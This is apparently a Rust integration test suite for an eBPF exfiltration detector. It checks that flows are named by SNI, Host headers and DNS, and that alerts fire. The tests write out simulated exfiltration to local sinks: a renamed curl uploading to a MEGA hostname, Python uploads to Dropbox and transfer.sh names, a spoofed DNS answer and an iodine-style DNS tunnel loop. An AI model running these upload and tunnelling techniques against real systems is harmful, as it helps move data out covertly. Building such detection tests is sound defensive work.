//! Destination names end to end on this host's kernel (cgroup backend): TLS
//! SNI, HTTP Host and DNS answers captured by the real eBPF programs name the
//! flows of real programs (curl renamed, python ssl, glibc's resolver), the
//! catalog maps them to services, the Mega rule fires on a renamed binary by
//! destination alone, and garbage is counted and dropped.

use std::{path::Path, process::Command, time::Duration};

use serde_json::Value;
use sluice_tests::*;

const ALL: &[&str] = &["--tick", "1s", "--probe", "cgroup", "--emit", "all"];

/// A self-signed certificate and key for the test TLS server.
fn self_signed(dir: &Path) -> (String, String) {
    let (cert, key) = (dir.join("cert.pem"), dir.join("key.pem"));
    let ok = Command::new("openssl")
        .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=sluice-test"])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .expect("openssl (cargo xtask setup installs it)");
    assert!(ok.status.success(), "openssl: {}", String::from_utf8_lossy(&ok.stderr));
    (cert.display().to_string(), key.display().to_string())
}

/// Flow records of `pid` that carry a destination name.
fn named_flows(records: &[Value], pid: u32) -> Vec<&Value> {
    flows_of(records, pid).into_iter().filter(|r| r["destination"]["domain"].is_string()).collect()
}

#[test]
fn tls_sni_names_flows_and_the_mega_rule_fires_on_a_renamed_binary_by_destination() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("sni");
    let (cert, key) = self_signed(&dir.0);
    // Nothing in the name says Mega: only where it sends does.
    let tool = dir.0.join("sync-helper");
    std::fs::copy("/usr/bin/curl", &tool).unwrap();
    let payload = dir.0.join("q3.xlsx");
    std::fs::write(&payload, incompressible(12_000_000, 5)).unwrap();
    let sluice = Sluice::start(ALL).unwrap();

    // 1. curl -k to a Mega transfer node; the name never touches /etc/hosts.
    let port = free_port();
    let sink = Sink::start(Some(&host), "https", &host.peer_v4, port, &[&cert, &key]).unwrap();
    let name = "gfs208n140.userstorage.mega.co.nz";
    let resolve = format!("{name}:{port}:{}", host.peer_v4);
    let url = format!("https://{name}:{port}/ul/abc");
    let pid = run_child(
        Command::new(&tool).args(["-sSk", "-o", "/dev/null", "--resolve", &resolve, "-T"]).arg(&payload).arg(&url),
        Duration::from_secs(60),
    )
    .unwrap();
    assert_eq!(sink.received().unwrap(), 12_000_000);

    // 2. python's ssl module to www.dropbox.com.
    let port2 = free_port();
    let sink2 = Sink::start(Some(&host), "https", &host.peer_v4, port2, &[&cert, &key]).unwrap();
    let py = format!(
        "import socket,ssl,os\n\
         ctx=ssl.create_default_context(); ctx.check_hostname=False; ctx.verify_mode=ssl.CERT_NONE\n\
         s=ctx.wrap_socket(socket.create_connection(('{}',{port2})), server_hostname='www.dropbox.com')\n\
         body=os.urandom(3000000)\n\
         s.sendall(b'PUT /2/files/upload HTTP/1.1\\r\\nHost: www.dropbox.com\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)\n\
         s.recv(100)\n",
        host.peer_v4
    );
    let py_pid = run_child(Command::new("/usr/bin/python3").args(["-c", &py]), Duration::from_secs(60)).unwrap();
    assert_eq!(sink2.received().unwrap(), 3_000_000);

    let recs = sluice
        .wait_for("named flows and the Mega alert", Duration::from_secs(20), |r| {
            !named_flows(r, pid).is_empty()
                && !named_flows(r, py_pid).is_empty()
                && !alerts_of(r, "sluice.exfil_tool_upload").is_empty()
        })
        .unwrap_or_else(|e| panic!("{e}\nstderr:\n{}", sluice.stderr_text()));

    let f = named_flows(&recs, pid)[0];
    assert_eq!(f["destination"]["domain"], name);
    assert_eq!(f["tls"]["client"]["server_name"], name);
    assert_eq!(f["network"]["protocol"], "tls");
    assert_eq!(f["sluice"]["destination"]["service"], "MEGA");
    assert_eq!(f["sluice"]["destination"]["category"], "storage");
    assert_eq!(f["sluice"]["destination"]["name_source"], "tls-sni");
    let named_out: u64 = named_flows(&recs, pid).iter().map(|r| r["sluice"]["bytes_out"].as_u64().unwrap()).sum();
    assert_ratio("bytes to the SNI-named Mega flow", named_out, 12_000_000, 1.0, 1.01);

    let g = named_flows(&recs, py_pid)[0];
    assert_eq!(g["destination"]["domain"], "www.dropbox.com");
    assert_eq!(g["sluice"]["destination"]["service"], "Dropbox");

    let alerts = alerts_of(&recs, "sluice.exfil_tool_upload");
    let a = alerts.iter().find(|a| a["process"]["pid"] == pid).expect("the Mega alert names the renamed binary");
    assert_eq!(a["destination"]["domain"], name);
    assert_eq!(a["sluice"]["destination"]["service"], "MEGA");
    assert!(a["event"]["reason"].as_str().unwrap().contains("storage service, so this is an upload to MEGA"), "{a}");
    sluice.stop().unwrap();
}

/// A DNS responder on the test host answering `name` with the host's address,
/// and glibc's resolver pointed at it for single commands: a mount namespace
/// gives each its own resolv.conf and nsswitch.conf.
struct Resolver {
    _responder: Sink,
    dir: std::path::PathBuf,
}

impl Resolver {
    fn start(host: &TestHost, dir: &Path, name: &str) -> Resolver {
        std::fs::write(dir.join("resolv.conf"), format!("nameserver {}\noptions attempts:2 timeout:2\n", host.peer_v4)).unwrap();
        std::fs::write(dir.join("nsswitch.conf"), "hosts: dns\n").unwrap();
        let responder = Sink::start(Some(host), "dns", &host.peer_v4, 53, &[&format!("{name}={}", host.peer_v4)]).unwrap();
        Resolver { _responder: responder, dir: dir.to_path_buf() }
    }

    /// `exec COMMAND` (a shell word list; `$0` is `arg`) under this resolver.
    /// unshare execs sh, which execs the command: the returned pid is its.
    fn run(&self, command: &str, arg: &str) -> u32 {
        let script = format!(
            "mount --bind {d}/resolv.conf /etc/resolv.conf && mount --bind {d}/nsswitch.conf /etc/nsswitch.conf && exec {command}",
            d = self.dir.display()
        );
        run_child(Command::new("unshare").args(["-m", "sh", "-c", &script, arg]), Duration::from_secs(60)).unwrap()
    }
}

#[test]
fn a_client_hello_split_across_two_records_still_names_the_flow() {
    require_root();
    let host = TestHost::create().unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    let sluice = Sluice::start(&["--emit", "flows", "--tick", "1s", "--probe", "cgroup"]).unwrap();
    let pid = run_child(
        Command::new(helper_bin("netload")).args(["tls-split", &host.peer_v4, &port.to_string(), "split.example.org", "2000000"]),
        Duration::from_secs(30),
    )
    .unwrap();
    assert!(sink.received().unwrap() >= 2_000_000);
    let f = wait_for_named(&sluice, "split.example.org");
    sluice.stop().unwrap();
    assert_eq!(f["process"]["pid"], pid);
    assert_eq!(f["tls"]["client"]["server_name"], "split.example.org", "{f}");
}

#[test]
fn a_name_claimed_in_sni_does_not_allowlist_and_one_this_host_resolved_does() {
    require_root();
    let (home, elsewhere) = (TestHost::create().unwrap(), TestHost::create().unwrap());
    let dir = TempDir::new("claims");
    let name = "backup.corp.example";
    let resolver = Resolver::start(&home, &dir.0, name);
    let tool = dir.0.join("rclone");
    std::fs::copy(helper_bin("netload"), &tool).unwrap();
    let config = dir.0.join("allow.toml");
    std::fs::write(&config, format!("[detect]\nallow_destinations = [\"{name}\"]\n")).unwrap();
    let sluice = Sluice::start(&[ALL, &["--config", config.to_str().unwrap()]].concat()).unwrap();

    // 1. Resolved through this host's resolver, then connected with that name
    //    in SNI: the name is corroborated, and the allowlist applies.
    let port = free_port();
    let sink = Sink::start(Some(&home), "tcp", &home.peer_v4, port, &[]).unwrap();
    let script = format!("getent hosts {name} > /dev/null && exec {} tls {} {port} {name} 8000000", tool.display(), home.peer_v4);
    let resolved = resolver.run("sh -c \"$0\"", &script);
    assert!(sink.received().unwrap() >= 8_000_000);

    // 2. An unsolicited answer mapping the name to another host, then the same
    //    tool claiming the name in SNI while connecting there: alerts.
    let local = free_port();
    let rx = format!("import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.bind(('{}',{local}))\ns.settimeout(5)\ns.recv(2048)\n", elsewhere.local_v4);
    let receiver = KillOnDrop(Command::new("/usr/bin/python3").args(["-c", &rx]).spawn().unwrap());
    std::thread::sleep(Duration::from_millis(300));
    let answer: String = dns_answer(name, elsewhere.peer_v4.parse().unwrap()).iter().map(|b| format!("\\x{b:02x}")).collect();
    let tx = format!("import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.bind(('{}',53))\ns.sendto(b'{answer}', ('{}',{local}))\n", elsewhere.peer_v4, elsewhere.local_v4);
    run_child(elsewhere.command("/usr/bin/python3").args(["-c", &tx]), Duration::from_secs(10)).unwrap();
    drop(receiver);
    let port = free_port();
    let sink = Sink::start(Some(&elsewhere), "tcp", &elsewhere.peer_v4, port, &[]).unwrap();
    let forged = run_child(Command::new(&tool).args(["tls", &elsewhere.peer_v4, &port.to_string(), name, "8000000"]), Duration::from_secs(30)).unwrap();
    assert!(sink.received().unwrap() >= 8_000_000);

    let recs = sluice
        .wait_for("the forged name's alert", Duration::from_secs(20), |r| alerts_of(r, "sluice.exfil_tool_upload").iter().any(|a| a["process"]["pid"] == forged))
        .unwrap();
    // The counters' line comes with the tick's report, which can trail the
    // alert on stdout under load: waited for, not read once.
    retry(Duration::from_secs(10), || sluice.stderr_text().contains("dns_unsolicited="));
    let err = sluice.stderr_text();
    sluice.stop().unwrap();
    let about_resolved: Vec<&Value> = recs.iter().filter(|r| r["event"]["kind"] == "alert" && r["process"]["pid"] == resolved).collect();
    assert!(about_resolved.is_empty(), "the resolved, allowlisted name alerted: {about_resolved:?}");
    let named = |pid: u32| recs.iter().find(|r| r["event"]["action"] == "flow-summary" && r["process"]["pid"] == pid).cloned().unwrap();
    assert_eq!(named(resolved)["sluice"]["destination"]["name_corroborated"], true);
    assert_eq!(named(forged)["sluice"]["destination"]["name_corroborated"], false);
    let unsolicited = err.rsplit("dns_unsolicited=").next().and_then(|s| s.split_whitespace().next()).and_then(|n| n.parse::<u64>().ok());
    assert!(unsolicited.unwrap_or(0) >= 1, "{err}");
}

#[test]
fn thousands_of_data_carrying_queries_under_one_zone_are_a_dns_tunnel_and_repeated_lookups_are_not() {
    require_root();
    let host = TestHost::create().unwrap();
    let sluice = Sluice::start(&["--tick", "1s", "--probe", "cgroup"]).unwrap();
    // 2,000 queries whose first label is 30 bytes of data in hex (iodine-like),
    // to the test host's port 53; and 300 ordinary lookups of one name.
    let query = "def q(name, i):\n    m = bytes([i >> 8 & 255, i & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])\n    for l in name.split('.'):\n        m += bytes([len(l)]) + l.encode()\n    return m + bytes([0, 0, 1, 0, 1])\n";
    let tunnel = format!(
        "import os,socket\n{query}s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor i in range(2000):\n    s.sendto(q(os.urandom(30).hex() + '.' + str(i) + '.t.exfil-test.net', i), ('{}', 53))\n",
        host.peer_v4
    );
    let lookups = format!(
        "import socket\n{query}s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\nfor i in range(300):\n    s.sendto(q('www.example.org', i), ('{}', 53))\n",
        host.peer_v4
    );
    let t = run_child(Command::new("/usr/bin/python3").args(["-c", &tunnel]), Duration::from_secs(60)).unwrap();
    let benign = run_child(Command::new("/usr/bin/python3").args(["-c", &lookups]), Duration::from_secs(60)).unwrap();
    let recs = sluice
        .wait_for("the tunnel alert", Duration::from_secs(20), |r| alerts_of(r, "sluice.dns_tunnel").iter().any(|a| a["process"]["pid"] == t))
        .unwrap();
    std::thread::sleep(Duration::from_secs(2));
    let all = sluice.stop().unwrap();
    let a = alerts_of(&recs, "sluice.dns_tunnel").into_iter().find(|a| a["process"]["pid"] == t).unwrap().clone();
    assert!(a["event"]["reason"].as_str().unwrap().contains("under exfil-test.net"), "{a}");
    assert_eq!(a["threat"]["technique"]["id"][0], "T1048.003");
    assert!(alerts_of(&all, "sluice.dns_tunnel").iter().all(|a| a["process"]["pid"] != benign), "repeated lookups are no tunnel");
}

/// Wait for a flow record named `name` and return it.
fn wait_for_named(sluice: &Sluice, name: &str) -> Value {
    let named = |r: &Value| r["event"]["action"] == "flow-summary" && r["destination"]["domain"] == name;
    let recs = sluice
        .wait_for("a DNS-named flow", Duration::from_secs(20), |r| r.iter().any(named))
        .unwrap_or_else(|e| panic!("{e}\nstderr:\n{}", sluice.stderr_text()));
    recs.iter().find(|r| named(r)).cloned().unwrap()
}

#[test]
fn a_dns_answer_from_a_local_resolver_names_a_plain_http_upload() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("dns");
    let name = "drop.transfer.sh";
    let resolver = Resolver::start(&host, &dir.0, name);
    let sluice = Sluice::start(ALL).unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "http", &host.peer_v4, port, &[]).unwrap();
    let payload = dir.0.join("notes.txt");
    std::fs::write(&payload, incompressible(2_000_000, 8)).unwrap();
    let pid = resolver.run(&format!("curl -sS -o /dev/null -T {} http://{name}:{port}/", payload.display()), "");
    assert_eq!(sink.received().unwrap(), 2_000_000);
    let f = wait_for_named(&sluice, name);
    assert_eq!(f["destination"]["ip"], host.peer_v4.as_str());
    assert_eq!(f["process"]["name"], "curl");
    assert_eq!(f["process"]["pid"], pid);
    // The plain-HTTP Host header names it too; the name the flow reports comes from its own bytes.
    assert_eq!(f["sluice"]["destination"]["service"], "transfer.sh");
    assert_eq!(f["network"]["protocol"], "http");
    // The counters' line comes with the tick's report, which can trail the record on stdout.
    assert!(retry(Duration::from_secs(10), || sluice.stderr_text().contains("dns_answers=")), "{}", sluice.stderr_text());
    // The answer itself was parsed: at least one DNS answer counted.
    let err = sluice.stderr_text();
    let answers = err.rsplit("dns_answers=").next().and_then(|s| s.split_whitespace().next()).and_then(|n| n.parse::<u64>().ok());
    assert!(answers.unwrap_or(0) >= 1, "{err}");
    sluice.stop().unwrap();
}

#[test]
fn an_upload_named_by_dns_alone_carries_the_dns_name() {
    require_root();
    let host = TestHost::create().unwrap();
    let dir = TempDir::new("dnsonly");
    let name = "content.dropboxapi.com";
    let resolver = Resolver::start(&host, &dir.0, name);
    let sluice = Sluice::start(ALL).unwrap();
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    // A raw TCP upload (no TLS, no HTTP): only DNS can name it.
    let py = format!(
        "import socket,os\ns=socket.create_connection((socket.gethostbyname('{name}'),{port}))\ns.sendall(os.urandom(1500000))\ns.close()\n"
    );
    resolver.run("python3 -c \"$0\"", &py);
    assert_eq!(sink.received().unwrap(), 1_500_000);
    let f = wait_for_named(&sluice, name);
    assert_eq!(f["sluice"]["destination"]["name_source"], "dns");
    assert_eq!(f["sluice"]["destination"]["service"], "Dropbox");
    sluice.stop().unwrap();
}

#[test]
fn garbage_client_hellos_and_dns_answers_are_counted_and_dropped() {
    require_root();
    let host = TestHost::create().unwrap();
    let sluice = Sluice::start(ALL).unwrap();
    // A "ClientHello" whose record length lies, then garbage, over TCP.
    let port = free_port();
    let sink = Sink::start(Some(&host), "tcp", &host.peer_v4, port, &[]).unwrap();
    let py = format!(
        "import socket\ns=socket.create_connection(('{}',{port}))\ns.sendall(b'\\x16\\x03\\x01\\x00\\x30' + b'\\x01\\xff\\xff\\xff' + bytes(range(44)))\ns.close()\n",
        host.peer_v4
    );
    run_child(Command::new("/usr/bin/python3").args(["-c", &py]), Duration::from_secs(30)).unwrap();
    sink.received().unwrap();
    // A garbage "DNS answer" from port 53 of the test host to a local socket.
    let local = free_port();
    let rx = format!(
        "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.bind(('{}',{local}))\nprint('ready',flush=True)\ns.settimeout(20)\ns.recv(2048)\n",
        host.local_v4
    );
    let mut receiver = std::process::Command::new("/usr/bin/python3")
        .args(["-c", &rx])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(receiver.stdout.take().unwrap()), &mut line).unwrap();
    let _receiver = KillOnDrop(receiver);
    let tx = format!(
        "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.bind(('{}',53))\ns.sendto(b'\\x12\\x34\\x81\\x80\\x00\\x01\\x00\\x05' + b'\\xc0' * 300, ('{}',{local}))\n",
        host.peer_v4, host.local_v4
    );
    run_child(host.command("/usr/bin/python3").args(["-c", &tx]), Duration::from_secs(30)).unwrap();
    let counted = retry(Duration::from_secs(15), || {
        let e = sluice.stderr_text();
        e.contains("tls_malformed=1") && e.contains("dns_malformed=1")
    });
    assert!(counted, "stderr:\n{}", sluice.stderr_text());
    // Still running, and every line it printed is one JSON object.
    let recs = sluice.stop().unwrap();
    assert!(recs.iter().all(|r| r.is_object()));
}
